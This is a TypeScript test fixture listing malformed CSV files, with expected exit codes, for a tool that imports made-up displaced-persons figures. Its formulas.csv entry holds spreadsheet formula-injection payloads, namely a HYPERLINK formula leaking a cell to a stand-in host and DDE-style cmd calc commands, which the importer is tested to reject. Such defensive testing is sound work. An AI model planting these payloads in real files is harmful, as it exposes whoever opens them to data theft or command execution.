import { TextDecoder } from 'node:util';
import { EXIT, type ExitCode } from '../cli/exit-codes';

/**
 * The project's own set of malformed master lists: each file, what is wrong with it, the
 * arguments it is imported with and the exit code crc-dtm must give (documented in the
 * README, "Malformed files"). Written from scratch with made-up figures.
 */
export interface MalformedFile {
  readonly name: string;
  readonly what: string;
  readonly bytes: Buffer;
  readonly args?: readonly string[];
  readonly exit: ExitCode;
  /** Rows that must be written (inserted) when the import completes. */
  readonly written?: number;
  /** A location's name as it must be stored, when the import completes. */
  readonly stored?: { readonly locationKey: string; readonly locationName: string };
}

const HEADER = [
  'Governorate',
  'District',
  'Location ID',
  'Location',
  'Round',
  'Date',
  'IDP Families',
  'IDP Individuals',
];
const ROWS = [
  ['Diyala', 'Khanaqin', 'J1', 'Jalawla centre', '125', '2022-03-31', '100', '600'],
  ['Ninewa', 'Al-Mosul', 'M1', 'Al-Zuhur', '125', '2022-03-31', '50', '300'],
];

const quote = (cell: string) => (/[",\n\r;]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
const csv = (rows: readonly (readonly string[])[], separator = ',', newline = '\n') =>
  rows.map((row) => row.map(quote).join(separator)).join(newline) + newline;
const utf8 = (text: string) => Buffer.from(text, 'utf8');

/** Windows-1256 has no encoder in Node: invert its decoder over the upper half of the byte range. */
function windows1256(text: string): Buffer {
  const decoder = new TextDecoder('windows-1256');
  const byChar = new Map<string, number>();
  for (let byte = 0x80; byte <= 0xff; byte += 1) byChar.set(decoder.decode(Uint8Array.of(byte)), byte);
  return Buffer.from(
    Array.from(text, (char) => {
      if (char.charCodeAt(0) < 0x80) return char.charCodeAt(0);
      const byte = byChar.get(char);
      if (byte === undefined) throw new Error(`"${char}" has no Windows-1256 byte`);
      return byte;
    }),
  );
}

const ARABIC_ROWS = [
  HEADER,
  ['ديالى', 'خانقين', 'J1', 'مركز جلولاء', '125', '2022-03-31', '100', '600'],
  ['نينوى', 'الموصل', 'M1', 'الزهور', '125', '2022-03-31', '50', '300'],
];

export const MALFORMED_FILES: readonly MalformedFile[] = [
  {
    name: 'bom.csv',
    what: 'UTF-8 byte-order mark',
    bytes: utf8(`\ufeff${csv([HEADER, ...ROWS])}`),
    exit: EXIT.ok,
    written: 2,
  },
  {
    name: 'crlf.csv',
    what: 'Windows line ends (CRLF)',
    bytes: utf8(csv([HEADER, ...ROWS], ',', '\r\n')),
    exit: EXIT.ok,
    written: 2,
  },
  {
    name: 'semicolons.csv',
    what: 'semicolon-separated (European Excel)',
    bytes: utf8(csv([HEADER, ...ROWS], ';')),
    exit: EXIT.ok,
    written: 2,
  },
  {
    name: 'quoted-newline.csv',
    what: 'a quoted cell spanning two lines (read as one space)',
    bytes: utf8(
      csv([
        HEADER,
        ROWS[0] as string[],
        ['Ninewa', 'Al-Mosul', 'M1', 'Al-Zuhur\nnorth', '125', '2022-03-31', '50', '300'],
      ]),
    ),
    exit: EXIT.ok,
    written: 2,
    stored: { locationKey: 'M1', locationName: 'Al-Zuhur north' },
  },
  {
    name: 'unterminated-quote.csv',
    what: 'a quote opened and never closed',
    bytes: utf8(`${csv([HEADER, ROWS[0] as string[]])}"Ninewa,Al-Mosul,M1,Al-Zuhur,125,2022-03-31,50,300\n`),
    exit: EXIT.source,
  },
  {
    name: 'long-cell.csv',
    what: 'a 100,000-character location name (its row is rejected)',
    bytes: utf8(
      csv([
        HEADER,
        ROWS[0] as string[],
        ['Ninewa', 'Al-Mosul', 'M1', 'x'.repeat(100_000), '125', '2022-03-31', '50', '300'],
      ]),
    ),
    exit: EXIT.rejectedRows,
    written: 1,
  },
  {
    name: 'formulas.csv',
    what: 'cells a spreadsheet would run as formulas (their rows are rejected: no such areas)',
    bytes: utf8(
      csv([
        HEADER,
        ROWS[0] as string[],
        [
          '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
          'Al-Mosul',
          'M1',
          'Al-Zuhur',
          '125',
          '2022-03-31',
          '50',
          '300',
        ],
        ['Ninewa', "@SUM(1+1)*cmd|' /C calc'!A0", 'M2', 'Al-Zuhur', '125', '2022-03-31', '50', '300'],
        ["+cmd|' /C calc'!A0", 'Al-Mosul', 'M3', '-2+3', '125', '2022-03-31', '50', '300'],
        ['\t=1+1', 'Al-Mosul', 'M4', '\r=1+1', '125', '2022-03-31', '50', '300'],
      ]),
    ),
    exit: EXIT.rejectedRows,
    written: 1,
  },
  {
    name: 'invalid-utf8.csv',
    what: 'bytes that are not UTF-8 in one row (refused with the row)',
    bytes: Buffer.concat([
      utf8(csv([HEADER, ROWS[0] as string[]])),
      Buffer.from([0x4e, 0x69, 0x6e, 0xc7, 0xe4, 0x2c]),
      utf8('Al-Mosul,M1,Al-Zuhur,125,2022-03-31,50,300\n'),
    ]),
    exit: EXIT.rejectedRows,
    written: 1,
  },
  {
    name: 'windows-1256.csv',
    what: 'Arabic names in Windows-1256, read with --encoding windows-1256',
    bytes: windows1256(csv(ARABIC_ROWS)),
    args: ['--encoding', 'windows-1256'],
    exit: EXIT.ok,
    written: 2,
    stored: { locationKey: 'J1', locationName: 'مركز جلولاء' },
  },
  {
    name: 'windows-1256-as-utf8.csv',
    what: 'the same Windows-1256 file read as UTF-8 (every Arabic row refused, with a hint)',
    bytes: windows1256(csv(ARABIC_ROWS)),
    exit: EXIT.rejectedRows,
    written: 0,
  },
  {
    name: 'utf16.csv',
    what: 'UTF-16 LE with its byte-order mark (Excel "Unicode text")',
    bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv(ARABIC_ROWS), 'utf16le')]),
    exit: EXIT.ok,
    written: 2,
  },
  { name: 'empty.csv', what: 'an empty file', bytes: Buffer.alloc(0), exit: EXIT.source },
  { name: 'header-only.csv', what: 'a header and no data rows', bytes: utf8(csv([HEADER])), exit: EXIT.source },
  {
    name: 'duplicate-columns.csv',
    what: 'two "IDP Individuals" columns',
    bytes: utf8(csv([[...HEADER, 'IDP Individuals'], ...ROWS.map((row) => [...row, '1'])])),
    exit: EXIT.source,
  },
  {
    name: 'null-byte.csv',
    what: 'a null byte in one cell (its row is rejected)',
    bytes: utf8(
      csv([
        HEADER,
        ROWS[0] as string[],
        ['Ninewa', 'Al-Mosul', 'M1', 'Al-\u0000Zuhur', '125', '2022-03-31', '50', '300'],
      ]),
    ),
    exit: EXIT.rejectedRows,
    written: 1,
  },
  {
    name: 'bidi-overrides.csv',
    what: 'right-to-left overrides and isolates around names (removed; the rows import)',
    bytes: utf8(
      csv([
        HEADER,
        ['\u202eDiyala\u202c', 'Khanaqin', 'J1', '\u2067Jalawla\u2069 centre', '125', '2022-03-31', '100', '600'],
        ROWS[1] as string[],
      ]),
    ),
    exit: EXIT.ok,
    written: 2,
    stored: { locationKey: 'J1', locationName: 'Jalawla centre' },
  },
];
